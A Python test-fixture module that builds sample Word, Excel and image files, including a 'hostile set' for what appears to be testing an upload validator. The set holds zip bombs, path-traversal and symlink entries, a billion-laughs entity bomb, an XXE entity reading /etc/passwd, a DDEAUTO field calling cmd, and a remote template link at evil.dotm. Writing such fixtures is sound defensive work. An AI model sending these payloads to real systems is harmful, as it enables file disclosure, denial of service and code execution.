"""Files for tests, made here: Word files part by part, sheets, pictures, and the hostile set."""

import io
import struct
import zipfile
from collections.abc import Iterable, Mapping

import openpyxl
from PIL import Image

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/package/2006/relationships"
O = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"  # noqa: E741
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def pack(parts: Mapping[str, bytes | str], *, names: Iterable[zipfile.ZipInfo] = ()) -> bytes:
    """A ZIP file of the parts, and of empty entries under ``names``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        for info in names:
            archive.writestr(info, b"x")
    return out.getvalue()


def paragraph(text: str, properties: str = "", run: str = "") -> str:
    """One w:p."""
    return (
        f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:rPr>{run}</w:rPr>"
        f'<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
    )


def word_parts(body: str, *, main: str = MAIN, prolog: str = "") -> dict[str, bytes | str]:
    """The parts of a small Word file with this body."""
    return {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" '
        f'ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{R}"><Relationship Id="r1" '
        f'Type="{O}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>',
    }


def word(*paragraphs: str, **more: bytes | str) -> bytes:
    """A Word file of plain paragraphs; ``more`` are further parts (``__`` for ``/``)."""
    parts = word_parts("".join(map(paragraph, paragraphs)))
    return pack(parts | {name.replace("__", "/"): part for name, part in more.items()})


def sheet(rows: Iterable[Iterable[object]], *, title: str = "名单") -> bytes:
    """An Excel file with one worksheet."""
    return workbook({title: rows})


def workbook(sheets: Mapping[str, Iterable[Iterable[object]]]) -> bytes:
    """An Excel file with several worksheets."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        made = book.create_sheet(title)
        for row in rows:
            made.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def photo(
    size: tuple[int, int] = (40, 20), *, kind: str = "JPEG", turned: bool = False, gps: bool = True
) -> bytes:
    """A picture, left half red, right half blue, with EXIF that says where it was taken."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    if turned:
        exif[0x0112] = 6
    if gps:
        exif.get_ifd(0x8825)[2] = (28.0, 8.0, 20.0)
    out = io.BytesIO()
    image.save(out, kind, **({"exif": exif} if kind in {"JPEG", "WEBP", "PNG"} else {}))
    return out.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A PNG whose head claims a size; there is no need for the pixels to be there."""
    data = bytearray(photo((8, 8), kind="PNG", gps=False))
    data[16:24] = struct.pack("!II", width, height)
    import zlib

    data[29:33] = struct.pack("!I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


# -- the hostile set


def bomb() -> bytes:
    """A Word file of 130 KB that unpacks to 130 MB."""
    return pack(word_parts(paragraph("啊" * 43_000_000)))


def lying_bomb() -> bytes:
    """The same, its directory claiming 2,000 bytes."""
    data = bytearray(pack(word_parts(paragraph("啊" * 10_000_000))))
    for mark, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            if struct.unpack_from("<I", data, start + at)[0] > 1_000_000:
                struct.pack_into("<I", data, start + at, 2000)
            start += 4
    return bytes(data)


def crowd() -> bytes:
    """A Word file with more entries than any office makes."""
    return pack(word_parts(paragraph("正文")) | {f"word/media/{n}": "x" for n in range(2001)})


def climbing(name: str) -> bytes:
    """A Word file with an entry whose name leads out of its folder."""
    return pack(word_parts(paragraph("正文")), names=[zipfile.ZipInfo(name)])


def linking() -> bytes:
    """A Word file with a symbolic link in it."""
    info = zipfile.ZipInfo("word/media/link.png")
    info.external_attr = 0o120777 << 16
    return pack(word_parts(paragraph("正文")), names=[info])


def deep(levels: int = 5000) -> bytes:
    """A Word file nested five thousand deep."""
    return pack(word_parts("<w:sdt>" * levels + paragraph("底") + "</w:sdt>" * levels))


def laughs() -> bytes:
    """A Word file with a billion laughs."""
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    prolog = f"<!DOCTYPE w:document [{entities}]>"
    return pack(word_parts(paragraph("&j;"), prolog=prolog))


def outside_entity() -> bytes:
    """A Word file that wants to read a file of the server."""
    prolog = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return pack(word_parts(paragraph("&x;"), prolog=prolog))


def with_macros() -> bytes:
    """A Word file with macros, an embedded sheet, active controls and a template elsewhere."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    body = paragraph("关于青年夜校开班的情况") + paragraph("十一月开班两期。") + field
    relations = (
        f'<Relationships xmlns="{R}"><Relationship Id="a" Type="{O}/attachedTemplate" '
        'Target="http://example.invalid/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return pack(
        word_parts(body, main=MACRO_MAIN)
        | {
            "word/vbaProject.bin": b"macro",
            "word/embeddings/oleObject1.bin": b"object",
            "word/activeX/activeX1.xml": "<a/>",
            "word/_rels/document.xml.rels": relations,
        }
    )


def ole(stream: str) -> bytes:
    """The beginning of an old Office file with a stream of this name."""
    return OLE_HEAD + stream.encode("utf-16-le") + bytes(512)


def locked_ole() -> bytes:
    """The beginning of an old Word file whose main stream says that it has a password."""
    beginning = ole("WordDocument")
    sector = beginning.ljust(-len(beginning) // 512 * -512, b"\0")
    return sector + b"\xec\xa5\xc1\0" + bytes(6) + b"\0\x01" + bytes(500)


def locked_zip() -> bytes:
    """A Word file whose entries say that they are encrypted."""
    data = bytearray(word("正文"))
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            data[start + at] |= 1
            start += 4
    return bytes(data)
